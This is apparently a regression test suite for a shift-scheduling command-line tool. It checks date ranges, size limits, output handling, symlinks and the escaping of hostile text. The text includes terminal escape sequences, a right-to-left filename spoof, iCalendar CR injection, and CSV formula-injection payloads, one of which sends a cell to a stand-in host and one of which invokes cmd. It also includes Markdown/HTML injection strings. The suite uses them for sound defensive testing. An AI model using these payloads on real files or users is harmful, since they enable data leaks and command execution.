/**
 * Hostile input across every command (issue 11): each case a red-team pass reproduced, now a
 * regression test. Never a hang, never a crash, never a lost file, nothing injected.
 *
 * - Years: one range, 1970-2099 (SPEC §3.1), for config dates, --from/--to/--at/--now and --year;
 *   outside it exit 2 (options) or a schema finding (config), before any work.
 * - Limits (SPEC §2): entries per file and in all, checked before parsing.
 * - Outputs: a failed write to stdout is exit 2; --out never replaces an input, takes /dev/stdout
 *   and `-`, refuses ''; temporary files go on SIGINT/SIGTERM/SIGHUP; init refuses what it cannot make.
 * - Paths: symlinks leaving the folder named are not followed.
 * - Text: control characters are a schema finding at the value; with the schema rule off, every
 *   medium still escapes them (terminal, CSV, Markdown, iCalendar).
 */
import { spawn, spawnSync } from 'node:child_process';
import { closeSync, existsSync, openSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { execFileSync } from 'node:child_process';
import ICAL from 'ical.js';
import { XMLValidator } from 'fast-xml-parser';
import { describe, expect, it } from 'vitest';
import { BASE, SHIFTS, skipNote, tempDir } from '../helpers.js';
import { BIN, ENV, expectClean, NO_SPECIAL_FILES, run, runBuilt } from './hostile.js';
import { parseInWorkers } from '../../src/load/index.js';
import { UsageError } from '../../src/errors.js';

const CONFIG = BASE + SHIFTS;
const WITH_CALENDAR = `${CONFIG}holidays:\n  calendars: [US, IR, CN]\n`;

/** No raw character that acts on a terminal: C0 controls but tab and newline, DEL, C1, direction overrides. */
// eslint-disable-next-line no-control-regex -- these are the characters looked for
const TERMINAL_ACTIVE = /[\x00-\x08\x0B-\x1F\x7F-\x9F\u202A-\u202E\u2066-\u2069]/;

describe('years outside 1970-2099', () => {
  const dir = () => tempDir({ 'org.yaml': WITH_CALENDAR });
  const outside = 'is outside the years shiftready reads: give a date from 1970 to 2099';

  it.each([
    [['check', '--from', '9999-12-31'], '--from "9999-12-31"'],
    [['check', '--from', '0001-01-01', '--to', '0001-02-01'], '--from "0001-01-01"'],
    [['check', '--from', '2099-12-01', '--to', '2100-01-02'], '--to "2100-01-02"'],
    [['compile', '--from', '1969-12-31'], '--from "1969-12-31"'],
    [['report', '--from', '2099-12-31', '--to', '2100-01-01T00:01'], '--to "2100-01-01T00:01"'],
    [['status', '--at', '1969-12-31T23:59'], '--at "1969-12-31T23:59"'],
    [['explain', '--portal', 'web', '--at', '2100-01-01T00:00'], '--at "2100-01-01T00:00"'],
    [['check', '--now', '9999-06-01'], '--now "9999-06-01"'],
  ])('%j: exit 2 at once, naming the option', async (args, named) => {
    const r = await run(args, dir());
    expectClean(r, 2, `${named} ${outside}`);
  });

  it('an instant with an offset is placed in the organization’s zone before its year is read', async () => {
    const d = dir();
    // 2099-12-31T23:00-12:00 is 2100-01-01 05:00 in Chicago: outside; 2100-01-01T01:00+14:00 is 2099-12-31 05:00 there: inside.
    expectClean(await run(['status', '--at', '2099-12-31T23:00-12:00'], d), 2, 'as local time in America/Chicago');
    const inside = await run(['status', '--at', '2100-01-01T01:00+14:00', '--format', 'json'], d);
    expectClean(inside, 0);
    expect(JSON.parse(inside.stdout).at).toBe('2099-12-31T11:00:00Z');
  });

  // Found by the fuzzer (npm run fuzz): the local reading was looked up before the year was checked, exit 3.
  it.each([
    [['status', '--at', '0001-01-01T00:00']],
    [['status', '--at', '0001-06-01T12:00', '--format', 'json']],
    [['explain', '--portal', 'web', '--at', '9999-12-31T23:59']],
    [['explain', '--portal', 'web', '--at', '1969-12-31T23:59']],
  ])('%j: a local --at far outside the years is exit 2, not an internal error', async (args) => {
    expectClean(await run(args, dir()), 2, `--at "${args[args.indexOf('--at') + 1]}" ${outside}`);
  });

  it('a five-digit year is not a date: exit 2', async () => {
    expectClean(await run(['check', '--to', '10000-01-01'], dir()), 2, '--to "10000-01-01" is not a date or date-time');
  });

  it('the edges themselves are read: 1970-01-01 00:00 local, and 2100-01-01 00:00 as an exclusive end', async () => {
    const d = dir();
    expectClean(await run(['check', '--from', '1970-01-01', '--to', '1970-02-01'], d), 0);
    expectClean(await run(['check', '--from', '2099-12-01', '--to', '2100-01-01'], d), 0);
    const status = await run(['status', '--at', '2099-12-31T23:59', '--format', 'json'], d);
    expectClean(status, 0);
    expect(JSON.parse(status.stdout).at).toBe('2100-01-01T05:59:00Z');
  });

  it('SHIFTREADY_NOW outside the range: exit 2, naming the variable', async () => {
    const r = await run(['check'], dir(), { SHIFTREADY_NOW: '9999-12-31T00:00' });
    expectClean(r, 2, 'SHIFTREADY_NOW', outside);
  });

  it.each(['0000', '0001', '1969', '2100', '9999', '10000', '2.5', '-2026'])('holidays --year %s: exit 2 with the range', async (year) => {
    expectClean(await run(['holidays', '--year', year], dir()), 2, `--year "${year}": give a year from 1970 to 2099`);
  });

  it('holidays --year 1970 and 2099 with Iran (Jalaali) and China (lunar) calendars: answered, exit 0', async () => {
    for (const year of ['1970', '2099']) {
      const r = await run(['holidays', '--year', year, '--format', 'json'], dir());
      expectClean(r, 0);
      const dates: string[] = JSON.parse(r.stdout).holidays.map((h: { date: string }) => h.date);
      expect(dates.length).toBeGreaterThan(10);
      expect(dates.every((date) => date.startsWith(`${year}-`))).toBe(true);
    }
  });

  it('config dates outside the range are schema findings at the value, with the range', async () => {
    const text =
      CONFIG.replace('from: 2026-01-05', 'from: 0001-01-01') + 'overrides:\n  - { portal: web, offline: 2100-01-01T10:00, by: ana }\n';
    const r = await run(['check', '--format', 'json'], tempDir({ 'org.yaml': text }));
    expectClean(r, 1);
    const findings = JSON.parse(r.stdout).findings as { rule: string; line: number; message: string }[];
    expect(findings.map((f) => [f.rule, f.line])).toEqual([
      ['schema', 36],
      ['schema', 39],
    ]);
    expect(findings[0]!.message).toContain('1970 to 2099');
    expect(findings[1]!.message).toContain('1970 to 2099');
  });

  it('an UNTIL outside the range is an invalid-recurrence finding at the rule', async () => {
    const text = CONFIG.replace('BYDAY=MO,TU,WE,TH,FR', 'BYDAY=MO,TU,WE,TH,FR;UNTIL=99991231T000000Z');
    const r = await run(['check', '--format', 'json'], tempDir({ 'org.yaml': text }));
    expectClean(r, 1);
    const findings = JSON.parse(r.stdout).findings as { rule: string; message: string }[];
    expect(findings.map((f) => f.rule)).toEqual(['invalid-recurrence']);
    expect(findings[0]!.message).toMatch(/UNTIL.*1970 to 2099/);
  });

  it('series from 1970 with a huge COUNT, read in 2099: answered (work bounded by the period, not by COUNT)', async () => {
    const many = Array.from(
      { length: 50 },
      (_, i) => `  - id: s${i}
    program: chat-program
    messaging: chat
    start: "09:00"
    end: "10:00"
    repeat: FREQ=DAILY;COUNT=999999999
    from: 1970-01-01
    staff: [ana]
`,
    ).join('');
    const r = runBuilt(
      ['compile', '--from', '2099-12-30', '--to', '2100-01-01', '--format', 'json'],
      tempDir({ 'org.yaml': `${BASE}shifts:\n${many}` }),
    );
    expectClean(r, 0);
    const web = JSON.parse(r.stdout).portals.find((p: { id: string }) => p.id === 'web');
    // 09:00-10:00 Chicago on 30 and 31 December 2099 (UTC-6): online 15:00Z-16:00Z each day.
    expect(web.intervals.filter((i: { state: string }) => i.state === 'online').map((i: { start: string }) => i.start)).toEqual([
      '2099-12-30T15:00:00Z',
      '2099-12-31T15:00:00Z',
    ]);
  });
});

describe('resource limits, before parsing', () => {
  it('a one-million-element flow list in a 2 MB file: one finding at the file, exit 1', async () => {
    const text = `shiftready: 1\nx: [${Array(1_000_000).fill('1').join(',')}]\n`;
    const r = await run(['check', 'big.yaml'], tempDir({ 'big.yaml': text }));
    expectClean(r, 1, 'big.yaml:1:1', 'the file holds 1,000,002 lines and commas (entries); shiftready reads up to 200,000 per file');
  });

  it('500,000 duplicate keys: one finding at the file, exit 1', async () => {
    const text = `shiftready: 1\n${'k: 1\n'.repeat(500_000)}`;
    const r = await run(['check', 'dups.yaml'], tempDir({ 'dups.yaml': text }));
    expectClean(r, 1, 'dups.yaml:1:1', 'the file holds 500,002 lines and commas');
  });

  it('ten files each under the file limit but over the total: exit 2, the total and its limit', async () => {
    const files: Record<string, string> = {};
    for (let i = 0; i < 10; i++) files[`f${i}.yaml`] = `shiftready: 1\nx: [${Array(190_000).fill('1').join(',')}]\n`;
    const r = await run(['check', '.'], tempDir(files));
    expectClean(r, 2, 'the configuration holds 1,900,020 lines and commas (entries) in all; shiftready reads up to 600,000 at a time');
  });

  it('the byte limit is stated exactly: bytes, not a rounded "4.0 MB, limit 4 MB"', async () => {
    const text = `shiftready: 1\n#${'x'.repeat(4 * 1024 * 1024)}\n`;
    const r = await run(['check', 'big.yaml'], tempDir({ 'big.yaml': text }));
    expectClean(r, 1, 'the file is 4,194,320 bytes (4.0 MB); shiftready reads config files of up to 4,194,304 bytes (4 MB)');
  });
});

describe('outputs', () => {
  it.skipIf(!existsSync('/dev/full'))(
    `stdout on a full disk (/dev/full): exit 2 with a message${skipNote(existsSync('/dev/full') ? undefined : 'no /dev/full')}`,
    () => {
      const dir = tempDir({ 'org.yaml': CONFIG });
      const full = openSync('/dev/full', 'w');
      try {
        const r = spawnSync(process.execPath, [BIN, 'check', '--format', 'json'], {
          cwd: dir,
          stdio: ['ignore', full, 'pipe'],
          encoding: 'utf8',
          env: { ...process.env, ...ENV },
          timeout: 10_000,
        });
        expect(r.status).toBe(2);
        expect(r.stderr).toBe('shiftready: cannot write the output to standard output: no space left on device (ENOSPC)\n');
      } finally {
        closeSync(full);
      }
    },
  );

  it('--out naming one of the configuration files: exit 2, and the file is untouched', async () => {
    const dir = tempDir({ 'conf/org.yaml': BASE, 'conf/shifts/chat.yaml': `shiftready: 1\n${SHIFTS}` });
    for (const out of ['conf/shifts/chat.yaml', './conf/../conf/org.yaml']) {
      expectClean(await run(['check', 'conf', '--out', out], dir), 2, `--out ${out}: that is one of the configuration files being read`);
    }
    expect(readFileSync(join(dir, 'conf/shifts/chat.yaml'), 'utf8')).toBe(`shiftready: 1\n${SHIFTS}`);
    expect(readFileSync(join(dir, 'conf/org.yaml'), 'utf8')).toBe(BASE);
  });

  it('--out /dev/stdout through a pipe, and --out -: the output on stdout, exit 0', () => {
    const dir = tempDir({ 'org.yaml': CONFIG });
    for (const out of ['/dev/stdout', '-']) {
      const r = runBuilt(['check', '--format', 'json', '--out', out], dir);
      expectClean(r, 0);
      expect(JSON.parse(r.stdout).findings).toEqual([]);
    }
  });

  it('compile --format json: the bytes on a real stdout (written as encoded chunks) equal --out and the in-process output', async () => {
    const dir = tempDir({ 'org.yaml': CONFIG });
    const args = ['compile', '--format', 'json', '--from', '2026-01-01', '--to', '2026-03-01'];
    const piped = runBuilt(args, dir);
    expectClean(piped, 0);
    expectClean(runBuilt([...args, '--out', 'out.json'], dir), 0);
    expect(piped.stdout).toBe(readFileSync(join(dir, 'out.json'), 'utf8'));
    // In process, the test's stdout takes text: the chunks are decoded for it.
    expect((await run(args, dir)).stdout).toBe(piped.stdout);
    expect(JSON.parse(piped.stdout).portals.length).toBeGreaterThan(0);
  });

  it("--out '': exit 2, says a file name is needed", async () => {
    expectClean(
      await run(['check', '--out', ''], tempDir({ 'org.yaml': CONFIG })),
      2,
      '--out needs a file name (or - for standard output)',
    );
  });

  it.skipIf(NO_SPECIAL_FILES)(
    `a signal during an --out write leaves no temporary file, and exits 128+signal${skipNote(NO_SPECIAL_FILES)}`,
    async () => {
      // A decade of 48 quarter-hour shifts a day: a 27 MB CSV, written in several chunks.
      const hours = Array.from({ length: 48 }, (_, h) => {
        const at = (minutes: number) => `${String(Math.floor(minutes / 60)).padStart(2, '0')}:${String(minutes % 60).padStart(2, '0')}`;
        return `  - id: h${h}
    program: chat-program
    messaging: chat
    start: "${at(30 * h)}"
    end: "${at(30 * h + 15)}"
    repeat: FREQ=DAILY
    from: 2026-01-01
    staff: [ana]
`;
      }).join('');
      const dir = tempDir({ 'org.yaml': `${BASE}shifts:\n${hours}` });
      for (const [signal, code] of [
        ['SIGTERM', 143],
        ['SIGINT', 130],
        ['SIGHUP', 129],
      ] as const) {
        const child = spawn(
          process.execPath,
          [BIN, 'compile', '--format', 'csv', '--from', '2026-01-01', '--to', '2035-12-31', '--out', 'out.csv'],
          {
            cwd: dir,
            stdio: 'ignore',
            env: { ...process.env, ...ENV },
          },
        );
        const exited = new Promise<number | null>((done) => child.once('exit', (c) => done(c)));
        // Signal as soon as the temporary file is there.
        const deadline = Date.now() + 20_000;
        while (!readdirSync(dir).some((f) => f.endsWith('.tmp')) && Date.now() < deadline) await new Promise((r) => setTimeout(r, 2));
        expect(
          readdirSync(dir).some((f) => f.endsWith('.tmp')),
          'the temporary file appeared',
        ).toBe(true);
        child.kill(signal);
        expect(await exited).toBe(code);
        expect(readdirSync(dir).sort()).toEqual(['org.yaml']);
      }
    },
    60_000,
  );

  it.skipIf(!existsSync('/proc/self'))(
    `init /proc/foo: exit 2 at once, cannot create${skipNote(existsSync('/proc/self') ? undefined : 'no /proc')}`,
    () => {
      expectClean(runBuilt(['init', '/proc/foo'], tempDir()), 2, '/proc/foo: cannot create /proc/foo');
    },
  );

  it('init into a path under a file: exit 2, not a directory', async () => {
    const dir = tempDir({ file: 'x' });
    expectClean(await run(['init', 'file/sub'], dir), 2, 'is not a directory');
  });
});

describe('paths', () => {
  it.skipIf(NO_SPECIAL_FILES)(
    `a symlink to / inside the folder is not followed; one named explicitly is${skipNote(NO_SPECIAL_FILES)}`,
    async () => {
      const outside = tempDir({ 'other.yaml': `shiftready: 1\n${SHIFTS}` });
      const dir = tempDir({ 'conf/org.yaml': CONFIG });
      symlinkSync('/', join(dir, 'conf/root'));
      symlinkSync(join(outside, 'other.yaml'), join(dir, 'conf/other.yaml'));
      expectClean(await run(['check', 'conf'], dir), 0, '✓ 1 file checked: no problems');
      // Named explicitly, the link is the user's choice: read (here a duplicate shift id, so exit 1).
      const named = await run(['check', 'conf/org.yaml', 'conf/other.yaml'], dir);
      expectClean(named, 1, /^conf\/other\.yaml:3:9 +error +.*web-day/m);
    },
  );

  it('a file vanishing while parsed on another thread: a usage error (exit 2), never unhandled', async () => {
    const dir = tempDir({ 'a.yaml': CONFIG });
    const present = { file: 'a.yaml', absolute: join(dir, 'a.yaml') };
    const gone = { file: 'gone.yaml', absolute: join(dir, 'gone.yaml') };
    // The worker's share fails (the larger file stays on this thread), then this thread's.
    await expect(parseInWorkers([present, gone], 2)).rejects.toThrow(UsageError);
    await expect(parseInWorkers([present, gone], 2)).rejects.toThrow('gone.yaml: cannot read: no such file or directory (ENOENT)');
    await expect(parseInWorkers([gone, present], 2)).rejects.toThrow('gone.yaml: cannot read');
    await expect(parseInWorkers([gone], 2)).rejects.toThrow('gone.yaml: cannot read');
  });
});

/** The organization with hostile text in each kind of string. */
const HOSTILE = `shiftready: 1
organization:
  id: org
  name: "Line \\e]0;pwned\\a \\e[2K\\rFAKE \\e]8;;https://evil.example\\e\\\\link\\e]8;;\\e\\\\"
  timezone: America/Chicago
programs:
  - id: p
portals:
  - id: web
    name: "Web\\rX-INJECT:1"
    type: chat
    program: p
users:
  - id: ana
    name: "Ana \\u202Egnp.exe"
    programs: [p]
    canReceive: [chat]
shifts:
  - id: day
    program: p
    messaging: chat
    start: "09:00"
    end: "17:00"
    repeat: FREQ=DAILY
    from: 2026-01-01
    staff: [ana]
holidays:
  dates:
    - date: 2026-01-07
      name: "Fake \\e[1mday"
      expect: either
`;

describe('control characters', () => {
  it('are schema findings at each value that holds one, naming the character', async () => {
    const r = await run(['check', '--format', 'json'], tempDir({ 'org.yaml': HOSTILE }));
    expectClean(r, 1);
    const findings = JSON.parse(r.stdout).findings as { rule: string; line: number; column: number; message: string }[];
    expect(findings.map((f) => `${f.rule}@${f.line}:${f.column}`)).toEqual(['schema@4:9', 'schema@10:11', 'schema@15:11', 'schema@30:13']);
    expect(findings[0]!.message).toBe(
      '`name` of `organization` contains the control character U+001B at position 6: remove it (shiftready writes text to terminals, spreadsheets and calendars, where it would act)',
    );
    expect(findings[2]!.message).toContain('U+202E');
  });

  it('tabs and newlines are text in notes and offline messages, not findings', async () => {
    const text = CONFIG.replace('    sms: "Text line closed. In danger? Call 911."', '    sms: "Closed.\\n\\tIn danger? Call 911."').concat(
      'overrides:\n  - { portal: web, offline: 2026-01-05T10:00, online: 2026-01-05T11:00, by: ana, note: "line one\\n\\tline two" }\n',
    );
    expectClean(await run(['check'], tempDir({ 'org.yaml': text })), 0);
  });

  it('inside an unknown key, one finding: the unknown key (not the control character in it)', async () => {
    const text = BASE.replace('shiftready: 1\n', 'shiftready: 1\n__proto__:\n  - "\\0"\n');
    const r = await run(['check', '--format', 'json'], tempDir({ 'org.yaml': text }));
    expectClean(r, 1);
    const findings = JSON.parse(r.stdout).findings as { message: string }[];
    expect(findings).toHaveLength(1);
    expect(findings[0]!.message).toMatch(/^unknown key `__proto__` at the top level/);
    expect(findings[0]!.message).not.toContain('[object Object]');
  });

  it('with the schema rule off, no command writes a raw control character to the terminal', async () => {
    const dir = tempDir({ 'org.yaml': HOSTILE });
    const commands = [
      ['check'],
      ['report', '--from', '2026-01-05', '--to', '2026-01-12'],
      ['report', '--format', 'markdown', '--from', '2026-01-05', '--to', '2026-01-12'],
      ['report', '--format', 'json', '--from', '2026-01-05', '--to', '2026-01-12'],
      ['status', '--at', '2026-01-05T12:00'],
      ['status', '--at', '2026-01-05T12:00', '--format', 'json'],
      ['explain', '--portal', 'web', '--at', '2026-01-05T12:00'],
      ['holidays', '--year', '2026'],
      ['holidays', '--year', '2026', '--format', 'markdown'],
      ['compile', '--from', '2026-01-05', '--to', '2026-01-07'],
      ['compile', '--format', 'ics', '--from', '2026-01-05', '--to', '2026-01-07'],
      ['report', '--format', 'html', '--from', '2026-01-05', '--to', '2026-01-12'],
      ['check', '--format', 'junit'],
      ['check', '--format', 'sarif'],
      ['check', '--format', 'github'],
      ['check', '--format', 'markdown'],
    ];
    for (const args of commands) {
      const r = await run([...args, '--rule', 'schema=off'], dir);
      expectClean(r, [0, 1]);
      // iCalendar's line ends are CRLF (RFC 5545); no other CR.
      const stdout = args.includes('ics') ? r.stdout.replace(/\r\n/g, '\n') : r.stdout;
      expect(TERMINAL_ACTIVE.test(stdout), `${args.join(' ')}: ${JSON.stringify(stdout.slice(0, 300))}`).toBe(false);
      expect(TERMINAL_ACTIVE.test(r.stderr), args.join(' ')).toBe(false);
    }
    // Shown, not acted on: the escape is written as text.
    const report = await run(['holidays', '--year', '2026', '--rule', 'schema=off'], dir);
    expect(report.stdout).toContain('Fake \\x1B[1mday');
    // JSON keeps the exact strings: its escapes parse back to them.
    const json = await run(['holidays', '--year', '2026', '--format', 'json', '--rule', 'schema=off'], dir);
    expect(json.stdout).toContain('Fake \\u001b[1mday');
    expect(JSON.parse(json.stdout).holidays.map((h: { name: string }) => h.name)).toContain('Fake \u001b[1mday');
  });

  // Checked by the fuzzer (npm run fuzz) with every run of check --format junit.
  it('JUnit: C1 controls, DEL, CR and direction overrides are character references; the XML is well-formed', async () => {
    const hostile = `${BASE}shifts:\n  - id: s\n    program: "a\\u0085b\\x7fc\\u202ed\\e[2Ke\\rf]]>"\n    messaging: chat\n    start: "09:00"\n    end: "17:00"\n    date: 2026-01-05\n`;
    const r = await run(['check', '--format', 'junit', '--rule', 'schema=off'], tempDir({ 'org.yaml': hostile }));
    expectClean(r, 1);
    expect(XMLValidator.validate(r.stdout)).toBe(true);
    expect(r.stdout).toContain('a&#x85;b&#x7F;c&#x202E;d\uFFFD[2Ke&#xD;f]]&gt;');
  });

  it('iCalendar: a bare CR in a portal name is escaped in SUMMARY; ical.js reads the name back', async () => {
    const r = await run(
      ['compile', '--format', 'ics', '--from', '2026-01-05', '--to', '2026-01-06', '--rule', 'schema=off'],
      tempDir({ 'org.yaml': HOSTILE }),
    );
    expectClean(r, 0);
    // Every CR is part of a CRLF line end.
    expect(r.stdout.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
    const calendar = new ICAL.Component(ICAL.parse(r.stdout));
    const summaries = calendar.getAllSubcomponents('vevent').map((e) => e.getFirstPropertyValue('summary'));
    expect(summaries).toEqual(['Web\nX-INJECT:1 online: ana']);
    expect(r.stdout).not.toMatch(/^X-INJECT/m);
  });

  it('CSV: ids a spreadsheet would run as formulas are written as text (OWASP)', async () => {
    const org = `${BASE.replace('  - id: web\n', '  - id: \'=HYPERLINK("https://evil.example"&A1,"Open")\'\n')}  - id: '@SUM(1+1)*cmd|''/Ccalc''!A0'
    programs: [chat-program]
    canReceive: [chat]
`;
    const shifts = `shiftready: 1
shifts:
  - id: '+1+1'
    program: chat-program
    messaging: chat
    start: "09:00"
    end: "17:00"
    date: 2026-01-05
    staff: ['@SUM(1+1)*cmd|''/Ccalc''!A0']
  - id: '-2'
    program: sms-program
    messaging: sms
    start: "09:00"
    end: "17:00"
    date: 2026-01-05
    staff: [ana]
`;
    const r = await run(
      ['compile', '--format', 'csv', '--from', '2026-01-05', '--to', '2026-01-06', '--rule', 'schema=off'],
      tempDir({ 'org.yaml': org, 'shifts.yaml': shifts }),
    );
    expectClean(r, 0);
    const cells = r.stdout
      .trim()
      .split('\r\n')
      .flatMap((line) => line.match(/("([^"]|"")*"|[^,]*)(,|$)/g)!.map((c) => c.replace(/,$/, '')));
    for (const c of cells) expect(c, c).not.toMatch(/^[=+\-@]/);
    expect(r.stdout).toContain(`"'=HYPERLINK(""https://evil.example""&A1,""Open"")"`);
    expect(r.stdout).toContain(`"'+1+1"`);
    expect(r.stdout).toContain(`"'-2"`);
    expect(r.stdout).toContain(`"'@SUM(1+1)*cmd|'/Ccalc'!A0"`);
  });

  it('diff --format markdown: a shift id with backticks, an image and HTML stays inside its code span', () => {
    const hostile = 'a`b ![x](https://evil.example/p.png) <img src=x> **LGTM**';
    const dir = tempDir();
    const git = (...args: string[]) => execFileSync('git', ['-c', 'commit.gpgsign=false', ...args], { cwd: dir, stdio: 'ignore' });
    git('init', '-q');
    git('config', 'user.email', 'test@example.com');
    git('config', 'user.name', 'Test');
    writeFileSync(join(dir, 'org.yaml'), CONFIG);
    git('add', '-A');
    git('commit', '-q', '-m', 'base');
    writeFileSync(join(dir, 'org.yaml'), CONFIG.replace('id: web-day', `id: '${hostile}'`));
    const r = runBuilt(
      ['diff', '--base', 'HEAD', '--format', 'markdown', '--from', '2026-01-05', '--to', '2026-01-12', '--rule', 'schema=off'],
      dir,
    );
    expectClean(r, 0);
    const line = r.stdout.split('\n').find((l) => l.startsWith('**Shifts changed:**'))!;
    // A double-backtick span holds the single backtick; nothing outside the spans but the labels.
    expect(line).toBe(`**Shifts changed:** \`\`${hostile}\`\` (added), \`web-day\` (removed)`);
  });
});

describe('ids', () => {
  it.each([
    ['ana smith', 'has a space at position 4'],
    ['-x', 'starts with "-" (U+002D)'],
    ['.hidden', 'starts with "." (U+002E)'],
    ['a/b', 'has "/" (U+002F) at position 2'],
    ['=1+1', 'starts with "=" (U+003D)'],
    ['a`b', 'has "`" (U+0060) at position 2'],
    ['x\\u200By', 'has the invisible character U+200B at position 2'],
  ])('%j: one schema finding that names the offending character', async (id, problem) => {
    const text = BASE.replace('  - id: ben\n', `  - id: "${id}"\n`);
    const r = await run(['check', '--format', 'json'], tempDir({ 'org.yaml': text }));
    expectClean(r, 1);
    const findings = JSON.parse(r.stdout).findings as { rule: string; message: string }[];
    expect(findings.map((f) => f.rule)).toEqual(['schema']);
    expect(findings[0]!.message).toContain(problem);
  });

  it('a reference that differs from an id only in how its accents are encoded (NFD vs NFC) says so', async () => {
    const text = `${BASE.replace('  - id: ben\n', '  - id: zo\u00EB\n')}${SHIFTS.replace('staff: [ana]', 'staff: [zoe\u0308]')}`;
    const r = await run(['check', '--format', 'json'], tempDir({ 'org.yaml': text }));
    expectClean(r, 1);
    const findings = JSON.parse(r.stdout).findings as { rule: string; message: string }[];
    expect(findings.map((f) => f.rule)).toEqual(['unknown-reference']);
    expect(findings[0]!.message).toBe(
      'shift `web-day` names user `zoe\u0308`, which does not exist: it looks like user `zo\u00EB` but its letters are encoded differently (Unicode composed and decomposed accents); type the reference again',
    );
  });

  it.each(['zoë', 'Ана', '_ph', 'u.10', 'x-1_y', '田中'])('%j is an id', async (id) => {
    const text = BASE.replace('  - id: ben\n', `  - id: "${id}"\n`);
    expectClean(await run(['check'], tempDir({ 'org.yaml': text })), 0);
  });
});

describe('rules turned off', () => {
  // Found by the fuzzer (npm run fuzz): timeline rules read the organization's zone as written, so
  // with invalid-timezone off an unknown name sent them into endless work (no answer, then out of memory).
  it('an organization zone that is not an IANA name, with invalid-timezone off: every command answers', () => {
    const zone = BASE.replace('timezone: America/Chicago', 'timezone: Mars/Base');
    const more = `overrides:
  - id: close-web
    portal: web
    offline: 2026-01-06T10:00
    by: ana
requirements:
  - id: text-days
    portal: text
    repeat: FREQ=DAILY
    from: 2026-01-05
    start: "09:00"
    end: "17:00"
holidays:
  dates:
    - { date: 2026-01-07, name: Own day }
  expect: closed
`;
    const dir = tempDir({ 'org.yaml': zone + SHIFTS + more });
    const off = ['--rule', 'invalid-timezone=off'];
    const period = ['--from', '2026-01-05', '--to', '2026-01-12'];
    // Nothing has a zone to be placed in, so there is no series to check: no findings, and an answer.
    expectClean(runBuilt(['check', ...period, ...off], dir), 0, 'no problems');
    expectClean(runBuilt(['report', ...period, '--format', 'json', ...off], dir), 0);
    expectClean(runBuilt(['holidays', '--year', '2026', ...off], dir), 0);
  });

  // Found by the fuzzer (npm run fuzz): the portal was missing from the timeline and explain read past it (exit 3).
  it('explain --portal of a portal whose type is neither chat nor sms, with the schema rule off: exit 2, says so', async () => {
    const dir = tempDir({ 'org.yaml': CONFIG.replace('  - id: web\n    type: chat\n', '  - id: web\n    type: "24:00"\n') });
    const r = await run(['explain', '--portal', 'web', '--at', '2026-01-05T12:00', '--rule', 'schema=off'], dir);
    expectClean(r, 2, '--portal web: the portal has no messaging type');
    // status leaves it out and answers for the others.
    expectClean(await run(['status', '--at', '2026-01-05T12:00', '--rule', 'schema=off'], dir), 0);
  });
});
